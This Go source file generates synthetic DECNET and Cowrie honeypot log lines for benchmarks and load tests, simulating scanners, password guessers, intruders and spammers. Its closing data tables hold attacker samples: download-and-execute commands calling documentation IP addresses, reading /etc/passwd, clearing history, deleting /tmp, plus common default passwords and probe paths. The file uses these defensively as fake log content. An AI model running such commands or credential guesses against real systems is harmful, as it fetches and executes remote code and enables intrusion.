// Package gen makes up the log lines of decoys under attack: DECNET's and
// Cowrie's, many attackers at a time, as many lines as asked for. The same
// options give the same lines. It exists for benchmarks and load tests; what
// the dialects are proved by are the files in testbed/data, which the real
// programs wrote.
package gen

import (
	"encoding/binary"
	"errors"
	"fmt"
	"math"
	"math/rand/v2"
	"net/netip"
	"slices"
	"time"
)

// Sensor is the program whose lines are made up.
type Sensor uint8

// The sensors.
const (
	// DECNET writes RFC 5424 lines, in about the mix of
	// testbed/data/decnet/raw_20k.log.
	DECNET Sensor = iota
	// Cowrie writes JSON, in about the mix of testbed/data/cowrie.
	Cowrie
)

// maxAttackers is how many addresses there are to attack from.
const maxAttackers = 1 << 28

// Options say what lines a Source gives.
type Options struct {
	Sensor Sensor
	// Attackers is the number of addresses, whose lines are interleaved.
	//
	// If Attackers is zero, the default of 5,000 will be used.
	Attackers int
	// Zipf is the exponent by which attackers differ in the number of their
	// lines: the k-th has about k^-Zipf of the first one's. 0 means that all
	// have about as many; else it must be more than 1.
	Zipf float64
	// Habit is what all attackers are after.
	Habit Habit
	// Stay is how long an attacker stays: Attackers is how many are there at a
	// time, and another one comes where one goes, as at real decoys.
	//
	// If Stay is zero, all stay for ever.
	Stay time.Duration
	// Mailing is how many lines of a hundred are of a mail to one of Domains mail
	// domains, whatever the attacker's habit. DECNET's alone have any.
	Mailing, Domains int
	// Deckies is the number of decoys.
	//
	// If Deckies is zero, the default of 20 will be used.
	Deckies int
	// Start is the time of the first line.
	//
	// If Start is zero, the default of 2026-01-01T00:00:00Z will be used.
	Start time.Time
	// Step is the time from line to line.
	//
	// If Step is zero, the default of 20 ms will be used.
	Step time.Duration
	// Seed chooses among all the logs with these options.
	Seed uint64
}

func (o *Options) validate() error {
	switch {
	case o.Sensor > Cowrie:
		return fmt.Errorf("gen: Options.Sensor is %d; it must be DECNET or Cowrie", o.Sensor)
	case o.Habit > Spammer:
		return fmt.Errorf("gen: Options.Habit is %d; it must be one of the habits", o.Habit)
	case o.Attackers < 0 || o.Attackers > maxAttackers:
		return fmt.Errorf("gen: Options.Attackers is %d; it must be from 1 to %d", o.Attackers, maxAttackers)
	case math.IsNaN(o.Zipf) || o.Zipf != 0 && o.Zipf <= 1:
		return fmt.Errorf("gen: Options.Zipf is %v; it must be 0 or more than 1", o.Zipf)
	case o.Deckies < 0 || o.Deckies > 9999:
		return fmt.Errorf("gen: Options.Deckies is %d; it must be from 1 to 9999", o.Deckies)
	case o.Step < 0:
		return errors.New("gen: Options.Step is negative")
	case o.Stay < 0:
		return errors.New("gen: Options.Stay is negative")
	case o.Mailing < 0 || o.Mailing > 100 || o.Domains < 0 || (o.Mailing > 0) != (o.Domains > 0):
		return fmt.Errorf("gen: Options.Mailing is %d and Domains %d; Mailing must be from 0 to 100, and both be set or neither", o.Mailing, o.Domains)
	}
	if o.Attackers == 0 {
		o.Attackers = 5000
	}
	if o.Deckies == 0 {
		o.Deckies = 20
	}
	if o.Start.IsZero() {
		o.Start = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	}
	if o.Step == 0 {
		o.Step = 20 * time.Millisecond
	}
	return nil
}

// Source gives lines. It is not safe for concurrent use.
type Source struct {
	o    Options
	rand *rand.Rand
	zipf *rand.Zipf
	at   time.Time
}

// New returns a Source at its first line.
func New(o Options) (*Source, error) {
	if err := o.validate(); err != nil {
		return nil, err
	}
	s := &Source{o: o, rand: rand.New(rand.NewPCG(o.Seed, 1)), at: o.Start.UTC()}
	if o.Zipf != 0 {
		s.zipf = rand.NewZipf(s.rand, o.Zipf, 1, uint64(o.Attackers-1))
	}
	return s, nil
}

// Append appends the next line, without a line feed.
func (s *Source) Append(dst []byte) []byte {
	n := 0
	if s.zipf != nil {
		n = int(s.zipf.Uint64())
	} else {
		n = s.rand.IntN(s.o.Attackers)
	}
	at := s.at
	s.at = s.at.Add(s.o.Step)
	if s.o.Stay > 0 {
		// They don't all come at once.
		since := at.Sub(s.o.Start) + s.o.Stay*time.Duration(n)/time.Duration(s.o.Attackers)
		n += s.o.Attackers * int(since/s.o.Stay)
	}
	a := newActor(n, &s.o)
	if s.o.Sensor == Cowrie {
		return s.cowrie(dst, &a, at)
	}
	return s.decnet(dst, &a, at)
}

// Lines returns the next n lines.
func (s *Source) Lines(n int) []string {
	lines := make([]string, n)
	var b []byte
	for i := range lines {
		b = s.Append(b[:0])
		lines[i] = string(b)
	}
	return lines
}

// Habit is what an attacker is after.
type Habit uint8

// The habits.
const (
	// Mixed is not one but all of them: most attackers scan, some guess
	// passwords, few break in.
	Mixed Habit = iota
	// Scanner connects.
	Scanner
	// Guesser tries names and passwords.
	Guesser
	// Browser asks web servers.
	Browser
	// Intruder works in a shell.
	Intruder
	// Spammer sends mail.
	Spammer
)

// actor is one attacker. It is made anew for each line from its number alone,
// so that a million of them take no memory.
type actor struct {
	addr   netip.Addr
	habit  Habit
	random uint64
	// deckies are the decoys it goes to.
	deckies [4]int
	reach   int
}

// habits is how many attackers of twenty have which habit.
var habits = [20]Habit{
	Scanner, Scanner, Scanner, Scanner, Scanner, Scanner, Scanner, Scanner, Scanner,
	Guesser, Guesser, Guesser, Guesser, Guesser,
	Browser, Browser, Browser,
	Intruder, Intruder,
	Spammer,
}

func newActor(n int, o *Options) actor {
	a := actor{habit: o.Habit, random: mix(uint64(n)<<20 ^ o.Seed)}
	// Multiplying by an odd number visits every address once.
	spread := uint32(n) * 0x9e3779b1 & (maxAttackers - 1)
	var ip [4]byte
	binary.BigEndian.PutUint32(ip[:], spread)
	// 64.0.0.0 to 79.255.255.255, where there is nothing special.
	ip[0] += 64
	a.addr = netip.AddrFrom4(ip)
	if a.habit == Mixed {
		a.habit = habits[a.random%uint64(len(habits))]
	}
	a.reach = 1
	if a.habit != Browser && a.random>>8&3 == 0 {
		a.reach = 1 + int(a.random>>10&3)
	}
	for i := range a.deckies {
		a.deckies[i] = 1 + int(mix(a.random+uint64(i))%uint64(o.Deckies))
	}
	return a
}

// mix is the finaliser of SplitMix64 (Steele, Lea, Flood, "Fast splittable
// pseudorandom number generators", 2014).
func mix(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ x>>30) * 0xbf58476d1ce4e5b9
	x = (x ^ x>>27) * 0x94d049bb133111eb
	return x ^ x>>31
}

// pick returns one of list.
func pick[T any](s *Source, list []T) T { return list[s.rand.IntN(len(list))] }

// own returns one of list that stays the same for the attacker.
func own[T any](a *actor, salt uint64, list []T) T {
	return list[mix(a.random^salt<<32)%uint64(len(list))]
}

// weighted is something that happens as often as its weight says.
type weighted[T any] struct {
	weight int
	what   T
}

func choose[T any](s *Source, list []weighted[T]) T {
	sum := 0
	for i := range list {
		sum += list[i].weight
	}
	n := s.rand.IntN(sum)
	i := slices.IndexFunc(list, func(w weighted[T]) bool { n -= w.weight; return n < 0 })
	return list[i].what
}

var (
	users     = []string{"root", "admin", "ubuntu", "oracle", "postgres", "svc_backup", "test", "user", "git", "pi"}
	passwords = []string{
		"123456", "password", "qwerty", "letmein", "P@ssw0rd!", "root", "toor", "admin", "1234", "xc3511",
		"vizxv", "changeme", "raspberry", "ubuntu", "oracle", "postgres", "test123", "q\"uote", "welcome1", "dragon",
	}
	commands = []string{
		"id", "uname -a", "cat /etc/passwd", "w", "ls -la /tmp", "cat /proc/cpuinfo | grep name | wc -l",
		"wget http://198.51.100.7/x.sh -O /tmp/x; chmod 777 /tmp/x; /tmp/x", "curl -s http://198.51.100.9/b | sh",
		"echo -e \"\\x6F\\x6B\"", "nproc", "free -m", "crontab -l", "printf 'café\\n'", "history -c",
		"rm -rf /tmp/*; cd /var/run || cd /tmp", "ps aux | grep -v grep | grep miner",
	}
	agents = []string{
		"Hydra", "Go-http-client/1.1", "Mozilla/5.0 (X11; Linux x86_64)", "python-requests/2.31.0", "zgrab/0.x",
		"curl/8.5.0", "masscan/1.3", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
	}
	paths = []string{
		"/", "/admin", "/phpmyadmin/", "/.env", "/wp-login.php", "/cgi-bin/luci", "/actuator/health", "/.git/config",
		"/boaform/admin/formLogin", "/solr/admin/info/system", "/api/v1/pods", "/HNAP1/",
	}
	domains = []string{
		"initech.net", "globex.io", "foo.invalid", "sub.example.corp", "victim.co.uk", "corp.local", "hooli.test", "acme.example",
	}
)
